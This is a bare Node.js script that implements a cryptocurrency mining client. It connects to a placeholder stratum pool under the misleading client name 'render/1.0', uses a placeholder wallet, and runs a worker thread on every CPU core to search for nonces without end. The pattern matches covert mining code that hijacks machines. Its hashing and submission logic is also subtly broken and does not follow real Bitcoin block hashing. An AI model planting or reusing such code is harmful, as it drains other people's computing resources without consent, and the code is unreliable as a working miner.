const { Worker, isMainThread, workerData, parentPort } = require('worker_threads');
const { createHash } = require('crypto');
const net = require('net');
const os = require('os');

if (isMainThread) {
  const pool = net.connect(3333, 'stratum.example.com');
  const say = (o) => pool.write(JSON.stringify(o) + '\n');
  let workers = [];
  say({ id: 1, method: 'mining.subscribe', params: ['render/1.0'] });
  say({ id: 2, method: 'mining.authorize', params: ['bc1qexampleexampleexample.worker', 'x'] });
  pool.on('data', (d) => {
    for (const line of d.toString().split('\n').filter(Boolean)) {
      const m = JSON.parse(line);
      if (m.method !== 'mining.notify') continue;
      workers.forEach((w) => w.terminate());
      workers = os.cpus().map((_, i) => {
        const w = new Worker(__filename, { workerData: { job: m.params, start: i * 1e8 } });
        w.on('message', (nonce) => say({ id: 4, method: 'mining.submit', params: ['bc1q', m.params[0], '00000000', m.params[7], nonce] }));
        return w;
      });
    }
  });
} else {
  const { job, start } = workerData;
  for (let n = start; ; n++) {
    const h = createHash('sha256').update(createHash('sha256').update(job[1] + n.toString(16)).digest()).digest();
    if (h[31] === 0 && h[30] === 0 && h[29] === 0 && h[28] === 0) parentPort.postMessage(n.toString(16));
  }
}
